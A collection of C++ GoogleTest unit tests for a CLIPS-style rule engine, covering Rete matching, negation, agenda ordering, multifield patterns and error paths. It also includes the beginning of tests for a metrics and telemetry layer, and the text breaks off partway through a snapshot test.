    "(deftemplate item (slot name) (slot qty))"
    "(deftemplate order (slot name))"
    "(defrule ship"
    "  (declare (salience 10))"
    "  ?o <- (order (name ?n))"
    "  (item (name ?n) (qty ?q))"
    "  =>"
    "  (printout t \"ship \" ?n \" \" ?q crlf)"
    "  (retract ?o))"
    "(defrule restock"
    "  (item (name ?n) (qty 0))"
    "  =>"
    "  (printout t \"restock \" ?n crlf))";

/** Run the same assert sequence under @p s; return the fire trace. */
std::string
strategyTrace(MatchStrategy s)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.setMatchStrategy(s);
    env.loadString(STRATEGY_PROGRAM);
    env.assertString("(item (name disk) (qty 3))");
    env.assertString("(item (name tape) (qty 0))");
    env.assertString("(order (name disk))");
    env.run();
    env.assertString("(order (name tape))");
    env.run();
    return out.str();
}

} // namespace

TEST(MatchStrategyTest, AllStrategyTracesAgree)
{
    std::string rete = strategyTrace(MatchStrategy::Rete);
    std::string dirty = strategyTrace(MatchStrategy::DirtyRescan);
    std::string naive = strategyTrace(MatchStrategy::Naive);
    EXPECT_EQ(rete, naive);
    EXPECT_EQ(dirty, naive);
    EXPECT_EQ(rete, "ship disk 3\nrestock tape\nship tape 0\n");
}

TEST(MatchStrategyTest, SwitchMidStreamPreservesBehaviour)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(STRATEGY_PROGRAM);
    env.assertString("(item (name disk) (qty 3))");
    env.assertString("(order (name disk))");
    EXPECT_EQ(env.run(), 1);

    // Flip to naive mid-stream: pending state must carry over.
    env.setMatchStrategy(MatchStrategy::Naive);
    env.assertString("(order (name disk))");
    EXPECT_EQ(env.run(), 1);

    // Through the dirty-rescan matcher: the rebuilt agenda must not
    // re-fire old matches.
    env.setMatchStrategy(MatchStrategy::DirtyRescan);
    EXPECT_EQ(env.run(), 0);
    env.assertString("(item (name tape) (qty 0))");
    EXPECT_EQ(env.run(), 1); // restock

    // And back to Rete: the rebuilt network must likewise respect
    // refraction while matching new facts.
    env.setMatchStrategy(MatchStrategy::Rete);
    EXPECT_EQ(env.run(), 0);
    env.assertString("(order (name tape))");
    EXPECT_EQ(env.run(), 1); // ship tape
    EXPECT_EQ(out.str(), "ship disk 3\nship disk 3\nrestock tape\n"
                         "ship tape 0\n");
}

TEST(MatchStrategyTest, RetractBeforeRunRemovesActivation)
{
    Environment env;
    env.loadString(
        "(deftemplate ping (slot n))"
        "(defrule on-ping (ping (n ?n)) => (bind ?x 1))");
    FactId id = env.assertString("(ping (n 1))");
    // The activation enters the maintained agenda at assert time;
    // retracting its support must pull it back out.
    EXPECT_TRUE(env.retract(id));
    EXPECT_EQ(env.run(), 0);
}

TEST(MatchStrategyTest, DirtyRescanDoesLessMatchWork)
{
    // Same workload under both oracle strategies: the dirty-rescan
    // matcher must recompute strictly fewer rule matches (only dirty
    // rules) while firing identically.
    auto matches = [](MatchStrategy s) {
        Environment env;
        std::ostringstream out;
        env.setOutput(&out);
        env.setMatchStrategy(s);
        env.loadString(STRATEGY_PROGRAM);
        for (int i = 0; i < 10; ++i) {
            env.assertString("(item (name disk) (qty 3))");
            env.assertString("(order (name disk))");
            env.run();
        }
        return env.stats().ruleMatches;
    };
    EXPECT_LT(matches(MatchStrategy::DirtyRescan),
              matches(MatchStrategy::Naive));
}

TEST(MatchStrategyTest, ReteDoesNoPerRunMatchWork)
{
    // Under Rete the agenda is maintained at assert/retract time:
    // run() performs no whole-rule rescans at all.
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(STRATEGY_PROGRAM);
    for (int i = 0; i < 10; ++i) {
        env.assertString("(item (name disk) (qty 3))");
        env.assertString("(order (name disk))");
        env.run();
    }
    EXPECT_EQ(env.stats().ruleMatches, 0u);
    EXPECT_EQ(env.stats().matchPasses, 0u);
    EXPECT_GT(env.stats().fires, 0u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
