/**
 * @file
 * Rete network unit tests: token lifecycle, negation counters,
 * node sharing and the delta-propagation invariants that the
 * corpus-level differential tests cannot pin down individually.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "clips/Environment.hh"

using namespace hth::clips;

namespace
{

/** Fresh environment on the Rete strategy (the default). */
void
loadShipping(Environment &env)
{
    env.loadString(R"CLP(
(deftemplate order (slot name) (slot qty))
(deftemplate stock (slot name) (slot qty))
(deftemplate hold (slot name))
)CLP");
}

} // namespace

// ---------------------------------------------------------------
// Negated-pattern counter semantics
// ---------------------------------------------------------------

TEST(Rete, NegationCounterFlipsWithdrawAndReemit)
{
    Environment env;
    loadShipping(env);
    env.loadString(
        "(defrule ship (order (name ?n)) (not (hold (name ?n)))"
        " => (assert (shipped (name ?n))))");
    env.loadString("(deftemplate shipped (slot name))");

    FactId order = env.assertFact("order", {{"name", Value::sym(
                                                         "disk")}});
    (void)order;
    // No hold: the not-node's counter is 0, the activation stands.
    FactId hold =
        env.assertFact("hold", {{"name", Value::sym("disk")}});
    // Counter flipped 0 -> 1 before run(): the activation must have
    // been withdrawn, so nothing fires.
    EXPECT_EQ(env.run(), 0);

    // Counter flips back 1 -> 0: the rule re-activates and fires.
    env.retract(hold);
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(env.fireCountsByRule()["ship"], 1u);
}

TEST(Rete, NegationCountsSupportNotJustPresence)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule ship (order (name ?n))"
                   " (not (hold (name ?n))) => (bind ?x 1))");

    env.assertFact("order", {{"name", Value::sym("disk")}});
    FactId h1 =
        env.assertFact("hold", {{"name", Value::sym("disk")}});
    FactId h2 =
        env.assertFact("hold", {{"name", Value::sym("disk")}});
    // Two supporting holds: removing only one must NOT re-emit.
    env.retract(h1);
    EXPECT_EQ(env.run(), 0);
    env.retract(h2);
    EXPECT_EQ(env.run(), 1);
}

TEST(Rete, ExistsCollapsesMultipleMatches)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule any (exists (order (name ?)))"
                   " => (bind ?x 1))");

    env.assertFact("order", {{"name", Value::sym("a")}});
    env.assertFact("order", {{"name", Value::sym("b")}});
    // However many orders exist, the exists-node emits one token.
    EXPECT_EQ(env.run(), 1);
    EXPECT_EQ(env.run(), 0);
}

// ---------------------------------------------------------------
// Retract-driven minus propagation
// ---------------------------------------------------------------

TEST(Rete, RetractRemovesDependentTokens)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule pair (order (name ?n))"
                   " (stock (name ?n) (qty ?q)) => (bind ?x 1))");

    FactId order =
        env.assertFact("order", {{"name", Value::sym("disk")}});
    size_t withPartial = env.reteLiveTokens();
    // The order made a partial match (a token at the first join).
    env.retract(order);
    // Minus propagation tears exactly that token back down.
    EXPECT_LT(env.reteLiveTokens(), withPartial);

    // Completing the other half afterwards must not resurrect it.
    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(3)}});
    EXPECT_EQ(env.run(), 0);
}

TEST(Rete, RetractWithdrawsPendingActivation)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule solo (order (name ?n)) => (bind ?x 1))");

    FactId order =
        env.assertFact("order", {{"name", Value::sym("disk")}});
    // Activation is pending; retract before run() must withdraw it.
    env.retract(order);
    EXPECT_EQ(env.run(), 0);
}

// ---------------------------------------------------------------
// Token balance invariant
// ---------------------------------------------------------------

TEST(Rete, TokenBalanceInvariantHolds)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule pair (order (name ?n))"
                   " (stock (name ?n) (qty ?q))"
                   " (not (hold (name ?n))) => (bind ?x 1))");

    auto checkBalance = [&env] {
        const EngineStats &s = env.stats();
        ASSERT_GE(s.reteTokensCreated, s.reteTokensDestroyed);
        EXPECT_EQ(s.reteTokensCreated - s.reteTokensDestroyed,
                  env.reteLiveTokens());
    };

    checkBalance();
    FactId order =
        env.assertFact("order", {{"name", Value::sym("disk")}});
    checkBalance();
    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(3)}});
    checkBalance();
    FactId hold =
        env.assertFact("hold", {{"name", Value::sym("disk")}});
    checkBalance();
    env.retract(hold);
    env.run();
    checkBalance();
    env.retract(order);
    checkBalance();
    EXPECT_GT(env.stats().reteTokensDestroyed, 0u);
}

TEST(Rete, ClearFactsDrainsAllTokens)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule pair (order (name ?n))"
                   " (stock (name ?n) (qty ?q)) => (bind ?x 1))");
    // Only the root token is live before any facts arrive.
    size_t baseline = env.reteLiveTokens();
    env.assertFact("order", {{"name", Value::sym("disk")}});
    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(3)}});
    EXPECT_GT(env.reteLiveTokens(), baseline);
    env.clearFacts();
    // The rebuilt network is back to the root token, and the
    // balance counters absorbed the teardown: created - destroyed
    // still equals the live count.
    EXPECT_EQ(env.reteLiveTokens(), baseline);
    EXPECT_EQ(env.stats().reteTokensCreated -
                  env.stats().reteTokensDestroyed,
              env.reteLiveTokens());
}

// ---------------------------------------------------------------
// Test-node invalidation (globals, deffunctions)
// ---------------------------------------------------------------

TEST(Rete, GlobalChangeReevaluatesTestNodes)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defglobal ?*limit* = 5)");
    env.loadString("(defrule low (stock (name ?n) (qty ?q))"
                   " (test (< ?q ?*limit*)) => (bind ?x 1))");

    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(7)}});
    // qty 7 >= limit 5: the test node blocks the token.
    EXPECT_EQ(env.run(), 0);

    // Raising the global must re-evaluate the test over its parent
    // memory and emit the previously blocked token.
    env.loadString("(defglobal ?*limit* = 10)");
    EXPECT_EQ(env.run(), 1);

    // And lowering it again must withdraw a pending activation.
    env.assertFact("stock", {{"name", Value::sym("tape")},
                             {"qty", Value::integer(7)}});
    env.loadString("(defglobal ?*limit* = 5)");
    EXPECT_EQ(env.run(), 0);
}

// ---------------------------------------------------------------
// Node sharing
// ---------------------------------------------------------------

TEST(Rete, RulesWithSharedPrefixShareNodes)
{
    Environment env;
    loadShipping(env);
    env.loadString("(defrule a (order (name ?n))"
                   " (stock (name ?n) (qty ?q)) => (bind ?x 1))");
    size_t alphasOne = env.reteAlphaNodes();
    size_t betasOne = env.reteBetaNodes();

    // Same alpha patterns, same first join, one extra CE: only the
    // divergent tail (not-node + terminal vs terminal) is new.
    env.loadString("(defrule b (order (name ?n))"
                   " (stock (name ?n) (qty ?q))"
                   " (not (hold (name ?n))) => (bind ?x 1))");
    EXPECT_EQ(env.reteAlphaNodes(), alphasOne + 1); // just `hold`
    EXPECT_EQ(env.reteBetaNodes(), betasOne + 2);   // neg + terminal

    // An identical LHS shares everything but the terminal.
    size_t betasTwo = env.reteBetaNodes();
    env.loadString("(defrule c (order (name ?n))"
                   " (stock (name ?n) (qty ?q)) => (bind ?x 2))");
    EXPECT_EQ(env.reteBetaNodes(), betasTwo + 1);
    EXPECT_EQ(env.reteAlphaNodes(), alphasOne + 1);
}

TEST(Rete, SharedPrefixStillFiresBothRules)
{
    Environment env;
    loadShipping(env);
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString("(defrule a (order (name ?n))"
                   " (stock (name ?n) (qty ?q))"
                   " => (printout t \"a \" ?n crlf))");
    env.loadString("(defrule b (order (name ?n))"
                   " (stock (name ?n) (qty ?q))"
                   " (not (hold (name ?n)))"
                   " => (printout t \"b \" ?n crlf))");
    env.assertFact("order", {{"name", Value::sym("disk")}});
    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(3)}});
    EXPECT_EQ(env.run(), 2);
    // Both rules saw the shared partial match exactly once.
    EXPECT_EQ(env.fireCountsByRule()["a"], 1u);
    EXPECT_EQ(env.fireCountsByRule()["b"], 1u);
}

// ---------------------------------------------------------------
// Rules added after facts (priming)
// ---------------------------------------------------------------

TEST(Rete, LateRuleIsPrimedAgainstExistingFacts)
{
    Environment env;
    loadShipping(env);
    env.assertFact("order", {{"name", Value::sym("disk")}});
    env.assertFact("stock", {{"name", Value::sym("disk")},
                             {"qty", Value::integer(3)}});
    // The network must backfill memories for a rule that arrives
    // after its supporting facts.
    env.loadString("(defrule late (order (name ?n))"
                   " (stock (name ?n) (qty ?q)) => (bind ?x 1))");
    EXPECT_EQ(env.run(), 1);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
