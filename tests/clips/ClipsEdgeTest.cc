/**
 * @file
 * Edge-case tests for the CLIPS engine: construct error paths,
 * agenda ordering details, multifield matching corner cases,
 * deffunction scoping and the while/progn special forms.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "clips/Environment.hh"
#include "support/Logging.hh"

using namespace hth;
using namespace hth::clips;

//
// Construct error paths
//

TEST(ClipsErrors, MalformedConstructsAreFatal)
{
    Environment env;
    EXPECT_THROW(env.loadString("(deftemplate)"), FatalError);
    EXPECT_THROW(env.loadString("(deftemplate t (badkind x))"),
                 FatalError);
    EXPECT_THROW(env.loadString("(defrule r (foo))"), FatalError);
    EXPECT_THROW(env.loadString("(defglobal ?*x*)"), FatalError);
    EXPECT_THROW(env.loadString("(deffunction f)"), FatalError);
}

TEST(ClipsErrors, TemplateRedefinitionFatal)
{
    Environment env;
    env.loadString("(deftemplate t (slot a))");
    EXPECT_THROW(env.loadString("(deftemplate t (slot b))"),
                 FatalError);
}

TEST(ClipsErrors, UnknownSlotInPatternFatal)
{
    Environment env;
    env.loadString("(deftemplate t (slot a))");
    EXPECT_THROW(
        env.loadString("(defrule r (t (nope ?x)) => (bind ?y 1))"),
        FatalError);
}

TEST(ClipsErrors, MultifieldTermInSingleSlotFatal)
{
    Environment env;
    env.loadString("(deftemplate t (slot a))");
    EXPECT_THROW(
        env.loadString("(defrule r (t (a $?x)) => (bind ?y 1))"),
        FatalError);
}

TEST(ClipsErrors, UnboundVariableInRhsFatal)
{
    Environment env;
    env.loadString("(defrule r (go) => (bind ?x ?never-bound))");
    env.assertString("(go)");
    EXPECT_THROW(env.run(), FatalError);
}

TEST(ClipsErrors, SingleSlotMultipleValuesFatal)
{
    Environment env;
    env.loadString("(deftemplate t (slot a))");
    EXPECT_THROW(env.assertString("(t (a 1 2))"), FatalError);
}

//
// Agenda ordering
//

TEST(ClipsAgenda, RecencyBreaksTies)
{
    // Two activations of the same salience: the one involving the
    // newer fact fires first.
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate job (slot id))"
        "(defrule handle (job (id ?i)) => (printout t ?i \" \"))");
    env.assertString("(job (id old))");
    env.assertString("(job (id new))");
    env.run();
    EXPECT_EQ(out.str(), "new old ");
}

TEST(ClipsAgenda, SalienceBeatsRecency)
{
    Environment env;
    std::ostringstream out;
    env.setOutput(&out);
    env.loadString(
        "(deftemplate a (slot x))"
        "(deftemplate b (slot x))"
        "(defrule low (declare (salience -5)) (a (x ?)) =>"
        "  (printout t \"low \"))"
        "(defrule high (declare (salience 5)) (b (x ?)) =>"
        "  (printout t \"high \"))");
    env.assertString("(b (x 1))");  // older fact, higher salience
    env.assertString("(a (x 1))");
    env.run();
    EXPECT_EQ(out.str(), "high low ");
}

TEST(ClipsAgenda, RetractedFactCancelsActivation)
{
    Environment env;
    env.loadString(
        "(deftemplate t (slot x))"
        "(defrule killer (declare (salience 10))"
        "  ?f <- (t (x kill-me))"
        "  => (retract ?f))"
        "(defrule would-fire (t (x kill-me)) =>"
        "  (assert (fired)))");
    env.assertString("(t (x kill-me))");
    env.run();
    // The higher-salience rule retracted the fact first.
    EXPECT_TRUE(env.factsByTemplate("fired").empty());
}

//
// Multifield matching corner cases
//

TEST(ClipsMultifield, EmptyMultifieldMatchesEmptyPattern)
{
    Environment env;
    env.loadString(
        "(deftemplate bag (multislot items))"
        "(defrule empty-bag (bag (items)) => (assert (was-empty)))");
    env.assertString("(bag (items))");
    env.assertString("(bag (items a))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("was-empty").size(), 1u);
}

TEST(ClipsMultifield, TwoMultiVarsSplitAllWays)
{
    // ($?a $?b) over (1 2): rule fires once per join (refraction is
    // per fact set, so only one activation exists) but the binding
    // must be a valid split.
    Environment env;
    env.loadString(
        "(deftemplate bag (multislot items))"
        "(defrule split (bag (items $?a $?b)) =>"
        "  (assert (sizes (length$ ?a) (length$ ?b))))");
    env.assertString("(bag (items 1 2))");
    env.run();
    auto sizes = env.factsByTemplate("sizes");
    ASSERT_EQ(sizes.size(), 1u);
    const auto &items = sizes[0]->slots[0].items();
    EXPECT_EQ(items[0].intValue() + items[1].intValue(), 2);
}

TEST(ClipsMultifield, LiteralSandwich)
{
    Environment env;
    env.loadString(
        "(deftemplate seq (multislot items))"
        "(defrule pick (seq (items $? sep ?x $?)) =>"
        "  (assert (after ?x)))");
    env.assertString("(seq (items a b sep c d))");
    env.run();
    auto after = env.factsByTemplate("after");
    ASSERT_EQ(after.size(), 1u);
    EXPECT_EQ(after[0]->slots[0].items()[0], Value::sym("c"));
}

TEST(ClipsMultifield, BoundMultiVarMustMatchExactRun)
{
    Environment env;
    env.loadString(
        "(deftemplate p (multislot a) (multislot b))"
        "(defrule same-prefix (p (a $?x $?) (b $?x $?)) =>"
        "  (assert (shared)))");
    // Shared prefix exists (possibly empty: $?x = ()).
    env.assertString("(p (a 1 2 3) (b 9 9))");
    env.run();
    // The empty prefix always matches, so the rule fires.
    EXPECT_EQ(env.factsByTemplate("shared").size(), 1u);
}

//
// Not-CE subtleties
//

TEST(ClipsNot, BindingsDoNotEscapeNot)
{
    Environment env;
    env.loadString(
        "(deftemplate a (slot x))"
        "(deftemplate b (slot x))"
        "(defrule r (a (x ?v)) (not (b (x ?v))) =>"
        "  (assert (lonely ?v)))");
    env.assertString("(a (x 1))");
    env.assertString("(a (x 2))");
    env.assertString("(b (x 1))");
    env.run();
    auto lonely = env.factsByTemplate("lonely");
    ASSERT_EQ(lonely.size(), 1u);
    EXPECT_EQ(lonely[0]->slots[0].items()[0], Value::integer(2));
}

TEST(ClipsNot, NotBecomesTrueAfterRetraction)
{
    Environment env;
    env.loadString(
        "(deftemplate blocker (slot x))"
        "(deftemplate go (slot x))"
        "(defrule clear (declare (salience 10))"
        "  ?b <- (blocker (x ?)) => (retract ?b))"
        "(defrule fire (go (x ?)) (not (blocker (x ?))) =>"
        "  (assert (done)))");
    env.assertString("(go (x 1))");
    env.assertString("(blocker (x 1))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("done").size(), 1u);
}

//
// Functions and special forms
//

TEST(ClipsFunctions, DeffunctionSeesOnlyItsParams)
{
    Environment env;
    env.loadString("(deffunction f (?x) (+ ?x 1))");
    // ?y from the caller must not leak into f.
    EXPECT_THROW(env.loadString("(deffunction g (?y) (f ?y) (+ ?q 1))"
                                "(bind ?out (g 1))"),
                 FatalError);
    EXPECT_EQ(env.evalString("(f 41)"), Value::integer(42));
}

TEST(ClipsFunctions, DeffunctionArityChecked)
{
    Environment env;
    env.loadString("(deffunction f (?x ?y) (+ ?x ?y))");
    EXPECT_THROW(env.evalString("(f 1)"), FatalError);
    EXPECT_THROW(env.evalString("(f 1 2 3)"), FatalError);
}

TEST(ClipsFunctions, WhileWithDoKeyword)
{
    Environment env;
    env.loadString(
        "(deffunction count-to (?n)"
        "  (bind ?i 0)"
        "  (bind ?sum 0)"
        "  (while (< ?i ?n) do"
        "    (bind ?i (+ ?i 1))"
        "    (bind ?sum (+ ?sum ?i)))"
        "  ?sum)");
    EXPECT_EQ(env.evalString("(count-to 4)"), Value::integer(10));
}

TEST(ClipsFunctions, PrognSequences)
{
    Environment env;
    EXPECT_EQ(env.evalString("(progn 1 2 3)"), Value::integer(3));
}

TEST(ClipsFunctions, NestedIf)
{
    Environment env;
    env.loadString(
        "(deffunction classify (?n)"
        "  (if (< ?n 0) then negative"
        "   else (if (= ?n 0) then zero else positive)))");
    EXPECT_EQ(env.evalString("(classify -5)"), Value::sym("negative"));
    EXPECT_EQ(env.evalString("(classify 0)"), Value::sym("zero"));
    EXPECT_EQ(env.evalString("(classify 3)"), Value::sym("positive"));
}

TEST(ClipsFunctions, ArithmeticErrorPaths)
{
    Environment env;
    EXPECT_THROW(env.evalString("(/ 1 0)"), FatalError);
    EXPECT_THROW(env.evalString("(div 1 0)"), FatalError);
    EXPECT_THROW(env.evalString("(mod 1 0)"), FatalError);
    EXPECT_THROW(env.evalString("(+ 1 abc)"), hth::PanicError);
}

//
// or / and / exists conditional elements
//

TEST(ClipsOrCe, EitherBranchFires)
{
    Environment env;
    env.loadString(
        "(deftemplate alpha (slot x))"
        "(deftemplate beta (slot x))"
        "(defrule either"
        "  (or (alpha (x ?v)) (beta (x ?v)))"
        "  => (assert (seen ?v)))");
    env.assertString("(alpha (x 1))");
    env.assertString("(beta (x 2))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("seen").size(), 2u);
}

TEST(ClipsOrCe, SharedContextAppliesToAllBranches)
{
    Environment env;
    env.loadString(
        "(deftemplate gate (slot open))"
        "(deftemplate a (slot x))"
        "(deftemplate b (slot x))"
        "(defrule guarded"
        "  (gate (open yes))"
        "  (or (a (x ?v)) (b (x ?v)))"
        "  => (assert (passed ?v)))");
    env.assertString("(a (x 1))");
    env.run();
    EXPECT_TRUE(env.factsByTemplate("passed").empty());
    env.assertString("(gate (open yes))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("passed").size(), 1u);
}

TEST(ClipsOrCe, AndGroupInsideOr)
{
    Environment env;
    env.loadString(
        "(deftemplate a (slot x))"
        "(deftemplate b (slot x))"
        "(deftemplate c (slot x))"
        "(defrule combo"
        "  (or (and (a (x ?v)) (b (x ?v)))"
        "      (c (x ?v)))"
        "  => (assert (hit ?v)))");
    env.assertString("(a (x 1))");      // a alone: no
    env.run();
    EXPECT_TRUE(env.factsByTemplate("hit").empty());
    env.assertString("(b (x 1))");      // a+b: yes
    env.assertString("(c (x 9))");      // c alone: yes
    env.run();
    EXPECT_EQ(env.factsByTemplate("hit").size(), 2u);
}

TEST(ClipsExists, FiresOnceRegardlessOfWitnessCount)
{
    Environment env;
    env.loadString(
        "(deftemplate task (slot id))"
        "(deftemplate trigger (slot x))"
        "(defrule any-tasks"
        "  (trigger (x ?t))"
        "  (exists (task (id ?)))"
        "  => (assert (busy ?t)))");
    env.assertString("(task (id 1))");
    env.assertString("(task (id 2))");
    env.assertString("(task (id 3))");
    env.assertString("(trigger (x go))");
    env.run();
    // Without exists this would fire three times (one per task).
    EXPECT_EQ(env.factsByTemplate("busy").size(), 1u);
}

TEST(ClipsExists, FailsWithNoWitness)
{
    Environment env;
    env.loadString(
        "(deftemplate task (slot id))"
        "(defrule any (exists (task (id ?))) => (assert (yes)))");
    env.run();
    EXPECT_TRUE(env.factsByTemplate("yes").empty());
    env.assertString("(task (id 1))");
    env.run();
    EXPECT_EQ(env.factsByTemplate("yes").size(), 1u);
}

//
// modify
//

TEST(ClipsModify, UpdatesSlotsInPlace)
{
    Environment env;
    env.loadString(
        "(deftemplate counter (slot n) (slot label))"
        "(defrule bump"
        "  ?c <- (counter (n ?n) (label ?l))"
        "  (test (< ?n 3))"
        "  => (modify ?c (n (+ ?n 1))))");
    env.assertString("(counter (n 0) (label steps))");
    EXPECT_EQ(env.run(), 3);
    auto counters = env.factsByTemplate("counter");
    ASSERT_EQ(counters.size(), 1u);
    EXPECT_EQ(counters[0]->slot("n"), Value::integer(3));
    // Untouched slots survive the modify.
    EXPECT_EQ(counters[0]->slot("label"), Value::sym("steps"));
}

TEST(ClipsModify, MultislotReplacement)
{
    Environment env;
    env.loadString(
        "(deftemplate bag (multislot items))"
        "(defrule fill"
        "  ?b <- (bag (items))"
        "  => (modify ?b (items a b c)))");
    env.assertString("(bag (items))");
    env.run();
    auto bags = env.factsByTemplate("bag");
    ASSERT_EQ(bags.size(), 1u);
    EXPECT_EQ(bags[0]->slot("items").items().size(), 3u);
}

TEST(ClipsModify, ErrorsOnBadTargets)
{
    Environment env;
    env.loadString("(deftemplate t (slot a))");
    EXPECT_THROW(env.evalString("(modify 5 (a 1))"), FatalError);
    env.loadString(
        "(defrule bad ?f <- (t (a ?)) =>"
        "  (modify ?f (nope 1)))");
    env.assertString("(t (a 1))");
    EXPECT_THROW(env.run(), FatalError);
}

//
// Engine statistics
//

TEST(ClipsStats, CountersTrack)
{
    Environment env;
    env.loadString("(defrule r (tick ?) => (bind ?x 0))");
    env.assertString("(tick 1)");
    env.assertString("(tick 2)");
    env.run();
    EXPECT_EQ(env.stats().fires, 2u);
    EXPECT_EQ(env.stats().asserts, 2u);
    EXPECT_EQ(env.ruleCount(), 1u);
    EXPECT_EQ(env.liveFactCount(), 2u);
    env.retract(env.facts()[0]->id);
    EXPECT_EQ(env.stats().retracts, 1u);
    EXPECT_EQ(env.liveFactCount(), 1u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
