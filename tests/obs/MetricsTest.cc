/**
 * @file
 * Unit tests for the observability layer: the metric registry
 * (counters, gauges, histograms, snapshots, merging), the phase
 * profiler, and the stats sinks.
 */

#include <gtest/gtest.h>

#include <atomic>
#include <set>
#include <sstream>
#include <thread>
#include <vector>

#include "obs/Metrics.hh"
#include "obs/Profiler.hh"
#include "obs/StatsSink.hh"
#include "obs/Telemetry.hh"
#include "support/Json.hh"

using namespace hth;
using namespace hth::obs;

TEST(Metrics, CounterAddAndSet)
{
    MetricRegistry registry;
    Counter &c = registry.counter("a.b");
    EXPECT_EQ(c.value(), 0u);
    c.add();
    c.add(9);
    EXPECT_EQ(c.value(), 10u);
    c.set(3);
    EXPECT_EQ(c.value(), 3u);
}

TEST(Metrics, GetOrCreateReturnsSameCell)
{
    MetricRegistry registry;
    Counter &a = registry.counter("x");
    Counter &b = registry.counter("x");
    EXPECT_EQ(&a, &b);
    a.add(5);
    EXPECT_EQ(b.value(), 5u);
    // Distinct kinds with the same name are distinct cells.
    registry.gauge("x").set(7);
    EXPECT_EQ(registry.counter("x").value(), 5u);
}

TEST(Metrics, GaugeTracksHighWater)
{
    MetricRegistry registry;
    Gauge &g = registry.gauge("depth");
    g.set(4);
    g.set(9);
    g.set(2);
    EXPECT_EQ(g.value(), 2u);
    EXPECT_EQ(g.max(), 9u);
}

TEST(Metrics, HistogramPowerOfTwoBuckets)
{
    MetricRegistry registry;
    Histogram &h = registry.histogram("lat");
    h.record(0);   // bucket 0
    h.record(1);   // [1,2) -> bucket 1
    h.record(2);   // [2,4) -> bucket 2
    h.record(3);   // [2,4) -> bucket 2
    h.record(700); // [512,1024) -> bucket 10
    EXPECT_EQ(h.count(), 5u);
    EXPECT_EQ(h.sum(), 706u);
    EXPECT_EQ(h.bucket(0), 1u);
    EXPECT_EQ(h.bucket(1), 1u);
    EXPECT_EQ(h.bucket(2), 2u);
    EXPECT_EQ(h.bucket(10), 1u);
    EXPECT_EQ(Histogram::upperBound(0), 0u);
    EXPECT_EQ(Histogram::upperBound(1), 1u);
    EXPECT_EQ(Histogram::upperBound(2), 3u);
    EXPECT_EQ(Histogram::upperBound(10), 1023u);
}

TEST(Metrics, PercentilesAreBucketUpperBounds)
{
    HistogramValue h;
    EXPECT_EQ(h.percentile(0.5), 0u); // empty -> 0

    // 100 samples: 50 in [2,4), 45 in [64,128), 5 in [512,1024).
    h.count = 100;
    h.buckets = {{3, 50}, {127, 45}, {1023, 5}};
    EXPECT_EQ(h.percentile(0.50), 3u);
    EXPECT_EQ(h.percentile(0.95), 127u);
    EXPECT_EQ(h.percentile(0.99), 1023u);
    // Clamping: out-of-range quantiles pin to the extremes.
    EXPECT_EQ(h.percentile(0.0), 3u);
    EXPECT_EQ(h.percentile(1.0), 1023u);
    EXPECT_EQ(h.percentile(-1.0), 3u);
    EXPECT_EQ(h.percentile(2.0), 1023u);
}

TEST(Metrics, PercentileSingleSample)
{
    HistogramValue h;
    h.count = 1;
    h.buckets = {{7, 1}};
    EXPECT_EQ(h.percentile(0.50), 7u);
    EXPECT_EQ(h.percentile(0.99), 7u);
}

TEST(StatsSink, JsonLinesCarryPercentiles)
{
    RunTelemetry t;
    HistogramValue h;
    h.count = 100;
    h.sum = 5000;
    h.buckets = {{3, 50}, {127, 45}, {1023, 5}};
    t.metrics.histograms["fleet.session_us"] = h;

    std::string json = renderJsonLines(t);
    EXPECT_NE(json.find("\"p50\":3,\"p95\":127,\"p99\":1023"),
              std::string::npos);
}

TEST(StatsSink, MetricNamesEscapeCleanly)
{
    // Hostile metric names must not corrupt the JSONL stream: each
    // line still parses, and the parsed name round-trips exactly.
    const std::string hostile[] = {
        "quote\"name", "back\\slash", "tab\there",
        "newline\nname", std::string("ctrl\x01byte"),
    };
    RunTelemetry t;
    for (const std::string &name : hostile)
        t.metrics.counters[name] = 1;
    t.metrics.histograms["hist\"\\\n"] = {1, 2, {{3, 1}}};

    std::istringstream lines(renderJsonLines(t));
    std::string line;
    std::set<std::string> names;
    while (std::getline(lines, line)) {
        support::JsonValue v = support::parseJson(line);
        if (v.at("type").str() == "counter" ||
            v.at("type").str() == "histogram")
            names.insert(v.at("name").str());
    }
    for (const std::string &name : hostile)
        EXPECT_EQ(names.count(name), 1u) << name;
    EXPECT_EQ(names.count("hist\"\\\n"), 1u);
}

TEST(Metrics, SnapshotIsOrderedAndComplete)
{
    MetricRegistry registry;
    registry.counter("zeta").set(1);
    registry.counter("alpha").set(2);
    registry.gauge("g").set(5);
    registry.histogram("h").record(3);

    MetricSnapshot snap = registry.snapshot();
    ASSERT_EQ(snap.counters.size(), 2u);
    EXPECT_EQ(snap.counters.begin()->first, "alpha");
    EXPECT_EQ(snap.counter("zeta"), 1u);
